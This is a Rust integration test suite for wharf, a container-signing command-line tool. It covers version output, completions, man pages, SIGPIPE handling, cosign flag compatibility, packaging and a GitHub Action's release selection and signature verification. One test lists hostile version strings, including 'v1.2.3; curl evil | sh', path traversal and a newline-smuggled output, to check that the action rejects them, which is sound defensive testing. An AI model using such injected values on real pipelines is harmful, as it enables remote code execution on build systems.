//! What wharf ships and how it meets a cosign user's command line: `--version` naming the
//! commit, shell completions and manual pages generated from the clap definitions, a quiet
//! end on a closed pipe, cosign's spellings (bare and `=true/false` switches, `--yes`,
//! `public-key`, `--allow-http-registry`), the workflows passing zizmor, and the crate's
//! package list.

mod common;

use std::fs;
use std::os::unix::process::ExitStatusExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use common::keys::{wharf_key, Key};
use common::standin::SigstoreStandIn;
use common::*;

const PASSWORD: &str = "distribution-test-password-51c2";
const SIGPIPE: i32 = 13;

/// `wharf ARGS` with its standard output a pipe whose reader is already gone, so the first
/// write to it fails with EPIPE, every time.
fn with_closed_stdout(cmd: &mut Command) -> Output {
    let (reader, writer) = std::io::pipe().expect("pipe");
    drop(reader);
    cmd.stdin(Stdio::null())
        .stdout(writer)
        .stderr(Stdio::piped())
        .output()
        .expect("spawn wharf")
}

/// The run was ended by SIGPIPE (what a shell reports as 141) and printed nothing: no panic
/// message, no error line.
fn assert_died_quietly_of_sigpipe(out: &Output, what: &str) {
    assert_eq!(
        out.status.signal(),
        Some(SIGPIPE),
        "{what}: expected death by SIGPIPE, got {}; stderr:\n{}",
        out.status,
        stderr_of(out)
    );
    assert!(
        !stderr_of(out).contains("panicked"),
        "{what}: {}",
        stderr_of(out)
    );
}

// ---------------------------------------------------------------------------------------
// --version
// ---------------------------------------------------------------------------------------

/// The commit of this checkout when the tests run from one (not from a packaged crate).
fn checkout_commit() -> Option<String> {
    let git = |args: &[&str]| {
        Command::new("git")
            .arg("-C")
            .arg(repo_root())
            .args(args)
            .output()
            .ok()
            .filter(|o| o.status.success())
            .map(|o| stdout_of(&o).trim().to_string())
    };
    let top = PathBuf::from(git(&["rev-parse", "--show-toplevel"])?);
    (top.canonicalize().ok()? == repo_root().canonicalize().ok()?)
        .then(|| git(&["rev-parse", "HEAD"]))
        .flatten()
}

#[test]
fn version_names_the_commit_and_the_build_date() {
    let out = run_ok(wharf().arg("--version"));
    let text = stdout_of(&out);
    let lines: Vec<&str> = text.lines().collect();
    // rustc's shape: `wharf 0.1.0 (0123abcde 2026-05-01)`.
    let first = lines[0];
    let inner = first
        .strip_prefix(&format!("wharf {} (", env!("CARGO_PKG_VERSION")))
        .and_then(|rest| rest.strip_suffix(')'))
        .unwrap_or_else(|| panic!("first line: {first:?}"));
    let (short, date) = inner.split_once(' ').expect("commit and date");
    assert!(
        date.len() == 10
            && date.chars().enumerate().all(|(i, c)| if i == 4 || i == 7 {
                c == '-'
            } else {
                c.is_ascii_digit()
            }),
        "build date {date:?}"
    );
    let field = |name: &str| {
        lines
            .iter()
            .find_map(|l| l.strip_prefix(&format!("{name}: ")))
            .unwrap_or_else(|| panic!("no {name}: line in {text}"))
    };
    let commit = field("commit");
    assert_eq!(field("build date"), date);
    assert!(!field("target").is_empty());
    let hash = commit.strip_suffix("-dirty").unwrap_or(commit);
    assert!(
        short.trim_end_matches("-dirty") == &hash[..hash.len().min(9)],
        "{short} is not short for {commit}"
    );
    if let Some(head) = checkout_commit() {
        assert_eq!(hash, head, "--version names another commit than HEAD");
    } else {
        assert!(!commit.is_empty(), "{text}");
    }

    // -V is the first line alone, on every command.
    let out = run_ok(wharf().arg("-V"));
    assert_eq!(stdout_of(&out).trim(), first);
    let out = run_ok(wharf().args(["verify", "-V"]));
    assert_eq!(
        stdout_of(&out).trim(),
        first.replacen("wharf ", "wharf-verify ", 1)
    );
}

// ---------------------------------------------------------------------------------------
// Completions and manual pages
// ---------------------------------------------------------------------------------------

fn completion(shell: &str) -> String {
    let out = run_ok(wharf().args(["completion", shell]));
    assert!(out.stderr.is_empty(), "{}", stderr_of(&out));
    stdout_of(&out)
}

#[test]
fn completions_generate_for_four_shells_and_bash_parses_and_completes() {
    for (shell, marker) in [
        ("bash", "complete -F _wharf"),
        ("zsh", "#compdef wharf"),
        ("fish", "complete -c wharf"),
        ("powershell", "Register-ArgumentCompleter"),
    ] {
        let script = completion(shell);
        assert!(script.contains(marker), "{shell}: no {marker:?}");
        for word in [
            "verify-attestation",
            "public-key",
            "certificate-oidc-issuer",
        ] {
            assert!(script.contains(word), "{shell} completion lacks {word}");
        }
    }
    let out = run_ok(wharf().args(["completion", "--help"]));
    assert!(stdout_of(&out).contains("powershell"));

    // bash parses the script, and completing `wharf verify-a` and `wharf sign --tl` offers
    // what the command line accepts.
    let dir = tempdir();
    let script = dir.path().join("wharf.bash");
    fs::write(&script, completion("bash")).unwrap();
    run_ok(Command::new(require_tool("bash")).arg("-n").arg(&script));
    let complete = |line: &str| -> Vec<String> {
        let words: Vec<&str> = line.split(' ').collect();
        let program = format!(
            "source '{}'; COMP_WORDS=({}); COMP_CWORD={}; COMP_LINE='{line}'; COMP_POINT=${{#COMP_LINE}}; \
             _wharf wharf '{}' '{}'; printf '%s\\n' \"${{COMPREPLY[@]}}\"",
            script.display(),
            words.iter().map(|w| format!("'{w}'")).collect::<Vec<_>>().join(" "),
            words.len() - 1,
            words[words.len() - 1],
            words[words.len() - 2],
        );
        let out = run_ok(Command::new(require_tool("bash")).args(["-c", &program]));
        stdout_of(&out)
            .split_whitespace()
            .map(String::from)
            .collect()
    };
    assert_eq!(complete("wharf verify-a"), ["verify-attestation"]);
    assert_eq!(complete("wharf sign --tl"), ["--tlog-upload"]);
    assert!(complete("wharf ").contains(&"completion".to_string()));
}

/// groff's rendering of a roff page: (text, warnings).
fn render_man(page: &Path) -> (String, String) {
    let out = run_ok(
        Command::new(require_tool("groff"))
            // Plain text: no escape sequences, no overstriking for bold and underline.
            .args(["-man", "-Tutf8", "-ww", "-P-c", "-P-b", "-P-u", "-P-o"])
            .arg(page),
    );
    (stdout_of(&out), stderr_of(&out))
}

#[test]
fn man_pages_render_without_warnings() {
    let dir = tempdir();
    let out = run_ok(wharf().arg("man"));
    let page = dir.path().join("stdout.1");
    fs::write(&page, &out.stdout).unwrap();
    let (text, warnings) = render_man(&page);
    assert!(warnings.is_empty(), "groff warnings: {warnings}");
    for word in [
        "NAME",
        "SYNOPSIS",
        "OPTIONS",
        "verify-attestation",
        "completion",
    ] {
        assert!(text.contains(word), "wharf(1) lacks {word}:\n{text}");
    }

    let pages = dir.path().join("man1");
    let out = run_ok(
        wharf()
            .args(["man", "--output", "json", "--dir"])
            .arg(&pages),
    );
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let written = report["pages"].as_array().unwrap();
    let mut names: Vec<String> = fs::read_dir(&pages)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    assert_eq!(names.len(), written.len());
    for expected in [
        "wharf.1",
        "wharf-sign.1",
        "wharf-verify-attestation.1",
        "wharf-key-generate.1",
        "wharf-public-key.1",
        "wharf-completion.1",
    ] {
        assert!(names.iter().any(|n| n == expected), "{expected}: {names:?}");
    }
    assert!(!names.iter().any(|n| n.contains("help")), "{names:?}");
    for name in &names {
        let (text, warnings) = render_man(&pages.join(name));
        assert!(warnings.is_empty(), "{name}: groff warnings: {warnings}");
        assert!(text.contains("SYNOPSIS"), "{name}:\n{text}");
    }
    let (sign, _) = render_man(&pages.join("wharf-sign.1"));
    assert!(sign.contains("--tlog-upload"), "{sign}");
    assert!(sign.contains("--yes"), "{sign}");

    // The same page as `man -l` shows it, where man-db is installed.
    if let Some(man) = find_tool("man") {
        let out = run_ok(
            Command::new(man)
                .arg("-l")
                .arg(pages.join("wharf-verify.1"))
                .env("MANPAGER", "cat")
                .env("MANWIDTH", "80"),
        );
        assert!(stdout_of(&out).contains("wharf-verify"));
    }
}

// ---------------------------------------------------------------------------------------
// A closed pipe
// ---------------------------------------------------------------------------------------

#[test]
fn a_closed_stdout_ends_wharf_by_sigpipe_without_a_word() {
    for args in [
        &["--help"][..],
        &["--version"],
        &["sign", "--help"],
        &["completion", "bash"],
        &["man"],
    ] {
        let out = with_closed_stdout(wharf().args(args));
        assert_died_quietly_of_sigpipe(&out, &args.join(" "));
        assert!(out.stderr.is_empty(), "{args:?}: {}", stderr_of(&out));
    }

    // `wharf push --output json | head -c1`: the push completes, then the report finds no
    // reader.
    let dir = tempdir();
    let layout = make_layout(&dir.path().join("layout"), &LayoutSpec::default());
    let dest = dir.path().join("pushed");
    let out = with_closed_stdout(
        wharf()
            .args(["push", "--output", "json"])
            .arg(&layout.dir)
            .arg(format!("oci:{}", dest.display())),
    );
    assert_died_quietly_of_sigpipe(&out, "push --output json");
    assert!(
        blob_path(&dest, &layout.root_digest).is_file(),
        "the push did not complete"
    );

    // The same for a text report printed with print!.
    let key = wharf_key(dir.path(), "k", PASSWORD);
    let out = with_closed_stdout(
        wharf()
            .args(["public-key", "--key", key.private()])
            .env("WHARF_PASSWORD", PASSWORD),
    );
    assert_died_quietly_of_sigpipe(&out, "public-key");
}

#[test]
fn a_closed_stderr_ends_a_failing_command_by_sigpipe() {
    let (reader, writer) = std::io::pipe().expect("pipe");
    drop(reader);
    let out = wharf()
        .args([
            "verify",
            "--key",
            "/nonexistent/cosign.pub",
            "oci:/nonexistent@sha256:00",
        ])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(writer)
        .output()
        .expect("spawn wharf");
    assert_eq!(out.status.signal(), Some(SIGPIPE), "{}", out.status);
    assert!(out.stdout.is_empty(), "{}", stdout_of(&out));
}

/// SIGPIPE stays ignored for every other pipe: a Docker credential helper that exits without
/// reading its input is an error line, never a silent death.
#[test]
fn a_credential_helper_closing_its_input_is_an_error_not_a_signal() {
    let reg = Registry::start_with_basic_auth("user", "secret-9f3e");
    let dir = tempdir();
    let bin = dir.path().join("bin");
    fs::create_dir_all(&bin).unwrap();
    let helper = bin.join("docker-credential-closed");
    fs::write(&helper, "#!/bin/sh\nexec 0<&-\nexit 1\n").unwrap();
    use std::os::unix::fs::PermissionsExt;
    fs::set_permissions(&helper, fs::Permissions::from_mode(0o755)).unwrap();
    let config = dir.path().join("docker");
    fs::create_dir_all(&config).unwrap();
    let host = reg.repo("x");
    let host = host.split('/').next().unwrap();
    fs::write(
        config.join("config.json"),
        format!(r#"{{"credHelpers":{{"{host}":"closed"}}}}"#),
    )
    .unwrap();
    let layout = make_layout(&dir.path().join("layout"), &LayoutSpec::default());
    let path = format!(
        "{}:{}",
        bin.display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let out = run_fail(
        wharf()
            .args(["push", "--allow-http-registry"])
            .arg(&layout.dir)
            .arg(reg.repo("app"))
            .env("DOCKER_CONFIG", &config)
            .env("PATH", path),
    );
    // Whether the helper was gone before or after wharf wrote to it, one error line.
    assert_eq!(out.status.signal(), None, "{}", out.status);
    error_line(&out);
}

// ---------------------------------------------------------------------------------------
// cosign's spellings
// ---------------------------------------------------------------------------------------

fn sign(key: &Key, image: &str, extra: &[&str]) -> Command {
    let mut cmd = wharf();
    cmd.args(["sign", "--key", key.private()])
        .args(extra)
        .arg(image)
        .env("WHARF_PASSWORD", PASSWORD);
    cmd
}

fn verify(key: &Key, image: &str, extra: &[&str]) -> Command {
    let mut cmd = wharf();
    cmd.args(["verify", "--key", key.public()])
        .args(extra)
        .arg(image);
    cmd
}

#[test]
fn switches_take_no_value_or_an_attached_true_or_false() {
    let reg = Registry::start();
    let dir = tempdir();
    let key = wharf_key(dir.path(), "k", PASSWORD);
    let img = push_to(&reg, "app", &["linux/amd64", "linux/arm64"], 7);
    let index = img.index();
    let http = "--allow-http-registry";

    // `--recursive=false` signs the index alone; `--yes` and `-y` change nothing.
    run_ok(&mut sign(
        &key,
        &index,
        &[http, "--tlog-upload=false", "--recursive=false", "--yes"],
    ));
    let ignore_tlog = "--insecure-ignore-tlog";
    run_ok(&mut verify(&key, &index, &[http, ignore_tlog]));
    run_ok(&mut verify(
        &key,
        &index,
        &[http, ignore_tlog, "--recursive=false"],
    ));
    run_fail(&mut verify(
        &key,
        &index,
        &[http, ignore_tlog, "--recursive"],
    ));
    run_fail(&mut verify(&key, &index, &[http, ignore_tlog, "-r=true"]));

    // The bare switch, `=true` and `-y`.
    run_ok(&mut sign(
        &key,
        &index,
        &[http, "--tlog-upload=false", "-r", "-y"],
    ));
    for flags in [
        &[http, ignore_tlog, "--recursive"][..],
        &[http, "--insecure-ignore-tlog=true", "--recursive=true"],
        &["--allow-http-registry=true", ignore_tlog, "-r"],
        &[
            "--allow-insecure-registry",
            "--insecure-ignore-tlog=1",
            "-r",
        ],
    ] {
        run_ok(&mut verify(&key, &index, flags));
    }

    // `=false` is false: no transparency-log evidence, so nothing verifies; plain HTTP is
    // refused without the insecure switch.
    let out = run_fail(&mut verify(
        &key,
        &index,
        &[http, "--insecure-ignore-tlog=false"],
    ));
    assert!(error_line(&out).contains("transparency log"));
    let out = run_fail(&mut verify(
        &key,
        &index,
        &["--allow-http-registry=false", ignore_tlog],
    ));
    error_line(&out);

    // A word after a switch is never its value.
    let out = run_fail(&mut verify(&key, "false", &[http, "--recursive"]));
    error_line(&out);
    let out = run_fail(&mut verify(&key, &index, &["--recursive=maybe"]));
    assert!(
        stderr_of(&out).contains("not a boolean"),
        "{}",
        stderr_of(&out)
    );
}

#[test]
fn bare_tlog_upload_logs_the_signature() {
    let si = SigstoreStandIn::start();
    let reg = Registry::start();
    let dir = tempdir();
    let key = wharf_key(dir.path(), "k", PASSWORD);
    let img = push_to(&reg, "app", &["linux/amd64"], 8);
    let index = img.index();
    let mut logged = vec!["--allow-http-registry", "--tlog-upload", "--rekor-url"];
    logged.push(&si.rekor_url);
    run_ok(&mut sign(&key, &index, &logged));
    // Verified with its log evidence (no --insecure-ignore-tlog).
    let trust = si.trusted_root.display().to_string();
    run_ok(&mut verify(
        &key,
        &index,
        &["--allow-http-registry", "--trusted-root", &trust],
    ));
    assert!(si.log().contains("/api/v1/log/entries"), "{}", si.log());
}

#[test]
fn attest_accepts_yes() {
    let reg = Registry::start();
    let dir = tempdir();
    let key = wharf_key(dir.path(), "k", PASSWORD);
    let img = push_to(&reg, "app", &["linux/amd64"], 9);
    let predicate = dir.path().join("sbom.cdx.json");
    fs::write(
        &predicate,
        r#"{"bomFormat":"CycloneDX","specVersion":"1.5","version":1,"components":[]}"#,
    )
    .unwrap();
    for yes in ["--yes", "-y", "--yes=true"] {
        run_ok(
            wharf()
                .args([
                    "attest",
                    yes,
                    "--allow-http-registry",
                    "--tlog-upload=false",
                ])
                .args(["--key", key.private(), "--type", "cyclonedx", "--predicate"])
                .arg(&predicate)
                .arg(img.at(img.child(0)))
                .env("WHARF_PASSWORD", PASSWORD),
        );
    }
    run_ok(
        wharf()
            .args([
                "verify-attestation",
                "--allow-http-registry",
                "--insecure-ignore-tlog",
            ])
            .args(["--key", key.public(), "--type", "cyclonedx"])
            .arg(img.at(img.child(0))),
    );
}

#[test]
fn public_key_is_key_public_under_cosigns_name() {
    let dir = tempdir();
    let key = wharf_key(dir.path(), "k", PASSWORD);
    let expected = fs::read_to_string(key.public()).unwrap();
    let out = run_ok(
        wharf()
            .args(["public-key", "--key", key.private()])
            .env("WHARF_PASSWORD", PASSWORD),
    );
    assert_eq!(stdout_of(&out), expected);
    let out = run_ok(
        wharf()
            .args(["key", "public", "--key", key.private()])
            .env("COSIGN_PASSWORD", PASSWORD),
    );
    assert_eq!(stdout_of(&out), expected);
    // cosign's --outfile.
    let file = dir.path().join("out.pub");
    run_ok(
        wharf()
            .args(["public-key", "--key", key.private(), "--outfile"])
            .arg(&file)
            .env("WHARF_PASSWORD", PASSWORD),
    );
    assert_eq!(fs::read_to_string(&file).unwrap(), expected);
    let out = run_fail(wharf().args(["public-key", "--key", "/nonexistent.key"]));
    assert!(error_line(&out).contains("/nonexistent.key"));
}

// ---------------------------------------------------------------------------------------
// The workflows and the crate
// ---------------------------------------------------------------------------------------

/// zizmor (offline: no GitHub API) over the workflows and the action finds nothing above
/// low severity.
#[test]
fn zizmor_finds_nothing_above_low_in_workflows_and_action() {
    let out = Command::new(require_tool("zizmor"))
        .current_dir(repo_root())
        .args(["--offline", "--no-progress", "--format", "plain"])
        .args(["--min-severity", "medium", ".github", "action.yml"])
        .env_remove("GH_TOKEN")
        .env_remove("GITHUB_TOKEN")
        .env_remove("ZIZMOR_CONFIG")
        .output()
        .expect("run zizmor");
    assert!(
        out.status.success(),
        "zizmor: {}\n{}\n{}",
        out.status,
        stdout_of(&out),
        stderr_of(&out)
    );
    // Both inputs were audited, not skipped.
    let all = stdout_of(&out) + &stderr_of(&out);
    assert!(
        all.contains("No findings") || all.contains("findings"),
        "{all}"
    );
}

/// Files `include_str!`/`include_bytes!` pull into the build, relative to the package root.
fn compiled_in_files(dir: &Path, found: &mut Vec<String>) {
    for entry in fs::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            compiled_in_files(&path, found);
            continue;
        }
        if path.extension().is_none_or(|e| e != "rs") {
            continue;
        }
        let text = fs::read_to_string(&path).unwrap();
        for macro_name in ["include_str!(\"", "include_bytes!(\""] {
            for (i, _) in text.match_indices(macro_name) {
                let rest = &text[i + macro_name.len()..];
                let target = &rest[..rest.find('"').unwrap()];
                let joined = path.parent().unwrap().join(target);
                let mut parts: Vec<String> = Vec::new();
                for c in joined.strip_prefix(repo_root()).unwrap().components() {
                    match c {
                        std::path::Component::ParentDir => {
                            parts.pop();
                        }
                        other => parts.push(other.as_os_str().to_string_lossy().into_owned()),
                    }
                }
                found.push(parts.join("/"));
            }
        }
    }
}

#[test]
fn the_crate_ships_what_the_build_needs_and_nothing_of_the_tests() {
    let cargo = std::env::var("CARGO").unwrap_or_else(|_| "cargo".into());
    let out = run_ok(Command::new(cargo).current_dir(repo_root()).args([
        "package",
        "--list",
        "--offline",
        "--allow-dirty",
        "--quiet",
    ]));
    let files: Vec<String> = stdout_of(&out).lines().map(String::from).collect();
    let mut needed: Vec<String> = [
        "Cargo.toml",
        "Cargo.lock",
        "build.rs",
        "README.md",
        "LICENSE",
        "src/main.rs",
        "src/lib.rs",
    ]
    .map(String::from)
    .to_vec();
    compiled_in_files(&repo_root().join("src"), &mut needed);
    assert!(
        needed.iter().any(|f| f == "examples/wharf.toml"),
        "{needed:?}"
    );
    for file in &needed {
        assert!(files.contains(file), "the package lacks {file}: {files:#?}");
    }
    // Every source file of the crate, and no test, script, fixture or workflow.
    let mut sources = Vec::new();
    let mut stack = vec![repo_root().join("src")];
    while let Some(dir) = stack.pop() {
        for entry in fs::read_dir(dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                stack.push(path);
            } else {
                let rel = path.strip_prefix(repo_root()).unwrap();
                sources.push(rel.to_string_lossy().into_owned());
            }
        }
    }
    for file in &sources {
        assert!(files.contains(file), "the package lacks {file}");
    }
    for file in &files {
        for excluded in [
            "tests/",
            "scripts/",
            "benches/",
            ".github/",
            "examples/hello",
            "docs/",
            "keys/",
            "target/",
        ] {
            assert!(!file.starts_with(excluded), "the package ships {file}");
        }
    }
    let manifest = fs::read_to_string(repo_root().join("Cargo.toml")).unwrap();
    for key in [
        "repository",
        "readme",
        "keywords",
        "categories",
        "license",
        "description",
    ] {
        assert!(
            manifest.lines().any(|l| l.starts_with(&format!("{key} ="))),
            "Cargo.toml has no {key}"
        );
    }
    let readme = fs::read_to_string(repo_root().join("README.md")).unwrap();
    assert!(
        readme.contains("cargo install --locked wharf"),
        "README: cargo install"
    );
}

// ---------------------------------------------------------------------------------------
// The action's choice of wharf
// ---------------------------------------------------------------------------------------

/// The `run:` script of the action's step `name`.
fn action_script(name: &str) -> String {
    let action = yaml_file(&repo_root().join("action.yml"));
    let step = action["runs"]["steps"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["name"] == name)
        .unwrap_or_else(|| panic!("action.yml has no step {name:?}"));
    assert_eq!(step["shell"], "bash");
    step["run"].as_str().unwrap().to_string()
}

/// Runs an action step's script as the runner does (`bash -eo pipefail`) with `env`; returns
/// the run and what it wrote to `$GITHUB_OUTPUT`.
fn run_action_script(script: &str, env: &[(&str, &str)]) -> (Output, Vec<(String, String)>) {
    let dir = tempdir();
    let output = dir.path().join("github_output");
    fs::write(&output, "").unwrap();
    let mut cmd = Command::new(require_tool("bash"));
    cmd.args(["--noprofile", "--norc", "-eo", "pipefail", "-c", script])
        .env("GITHUB_OUTPUT", &output)
        .env("GITHUB_ACTION_PATH", repo_root())
        .env("GITHUB_REPOSITORY", "acme/app")
        .env("RUNNER_TEMP", dir.path());
    for (k, v) in env {
        cmd.env(k, v);
    }
    let out = cmd.output().expect("run bash");
    let written = fs::read_to_string(&output)
        .unwrap()
        .lines()
        .map(|l| {
            let (k, v) = l.split_once('=').expect("name=value");
            (k.to_string(), v.to_string())
        })
        .collect();
    (out, written)
}

#[test]
fn the_action_picks_the_release_of_its_own_tag_for_the_runner() {
    let script = action_script("Which wharf");
    let which = |env: &[(&str, &str)]| {
        let mut all = vec![
            ("INPUT_VERSION", ""),
            ("FROM_SOURCE", "false"),
            ("ACTION_REF", "v1"),
            ("ACTION_REPOSITORY", "owner/wharf"),
            ("RUNNER_OS", "Linux"),
            ("RUNNER_ARCH", "X64"),
        ];
        for (k, v) in env {
            all.retain(|(name, _)| name != k);
            all.push((k, v));
        }
        run_action_script(&script, &all)
    };
    let get = |written: &[(String, String)], name: &str| {
        written
            .iter()
            .find(|(k, _)| k == name)
            .map(|(_, v)| v.clone())
            .unwrap_or_else(|| panic!("no output {name}: {written:?}"))
    };
    let own = format!("v{}", env!("CARGO_PKG_VERSION"));

    // @v1 or @<commit>: the version of the action's own sources.
    for action_ref in ["v1", "0123456789abcdef0123456789abcdef01234567", "main"] {
        let (out, written) = which(&[("ACTION_REF", action_ref)]);
        assert!(out.status.success(), "{}", stderr_of(&out));
        assert_eq!(get(&written, "version"), own, "@{action_ref}");
        assert_eq!(get(&written, "source"), "false");
        assert_eq!(get(&written, "target"), "x86_64-unknown-linux-musl");
        assert_eq!(get(&written, "repository"), "owner/wharf");
    }
    // @vX.Y.Z: that tag; an explicit version wins, with or without its v.
    let (_, written) = which(&[("ACTION_REF", "v2.3.4")]);
    assert_eq!(get(&written, "version"), "v2.3.4");
    let (_, written) = which(&[("INPUT_VERSION", "1.0.0"), ("ACTION_REF", "v2.3.4")]);
    assert_eq!(get(&written, "version"), "v1.0.0");
    // ARM64 runners; a local action (uses: ./) is the workflow's repository.
    let (_, written) = which(&[("RUNNER_ARCH", "ARM64"), ("ACTION_REPOSITORY", "")]);
    assert_eq!(get(&written, "target"), "aarch64-unknown-linux-musl");
    assert_eq!(get(&written, "repository"), "acme/app");
    // build-from-source downloads nothing.
    let (out, written) = which(&[("FROM_SOURCE", "true"), ("RUNNER_OS", "macOS")]);
    assert!(out.status.success(), "{}", stderr_of(&out));
    assert_eq!(written, [("source".to_string(), "true".to_string())]);

    // No binary for the runner, or a version that is not one: an error, nothing chosen.
    let (out, written) = which(&[("RUNNER_OS", "macOS"), ("RUNNER_ARCH", "ARM64")]);
    assert!(!out.status.success());
    assert!(stdout_of(&out).contains("::error::"), "{}", stdout_of(&out));
    assert!(stdout_of(&out).contains("build-from-source: true"));
    assert!(written.is_empty(), "{written:?}");
    for hostile in [
        "latest",
        "v1.2.3; curl evil | sh",
        "../../v1.2.3",
        "v1.2.3\nsource=true",
    ] {
        let (out, written) = which(&[("INPUT_VERSION", hostile)]);
        assert!(!out.status.success(), "{hostile:?} accepted");
        assert!(written.is_empty(), "{hostile:?}: {written:?}");
    }
}

/// The download step requires the signature of the release workflow for exactly that tag of
/// the action's repository, from GitHub's release URL, before installing.
#[test]
fn the_action_verifies_the_download_against_the_release_workflow_identity() {
    let action = fs::read_to_string(repo_root().join("action.yml")).unwrap();
    for needle in [
        "uses: sigstore/cosign-installer@6f9f17788090df1f26f669e9d70d6ae9567deba6 # v4.1.2",
        "\"$GITHUB_SERVER_URL/$REPOSITORY/.github/workflows/release.yml@refs/tags/$VERSION\"",
        "--certificate-oidc-issuer https://token.actions.githubusercontent.com",
        "cosign verify-blob \"$dir/wharf-$TARGET\" --bundle \"$dir/wharf-$TARGET.sigstore.json\"",
    ] {
        assert!(action.contains(needle), "action.yml lacks {needle}");
    }
    // Verification comes before installation, and both before the release runs.
    let verify = action.find("cosign verify-blob").unwrap();
    let install = action.find("install -m 0755").unwrap();
    let release = action.find("- name: Release").unwrap();
    assert!(verify < install && install < release);
    // The release workflow publishes what the action downloads, signed as it requires.
    let workflow = fs::read_to_string(repo_root().join(".github/workflows/release.yml")).unwrap();
    for needle in [
        "target: x86_64-unknown-linux-musl",
        "target: aarch64-unknown-linux-musl",
        "cp \"target/$TARGET/release/wharf\" \"dist/wharf-$TARGET\"",
        "sign-blob \"$file\" --bundle \"$file.sigstore.json\"",
    ] {
        assert!(workflow.contains(needle), "release.yml lacks {needle}");
    }
}
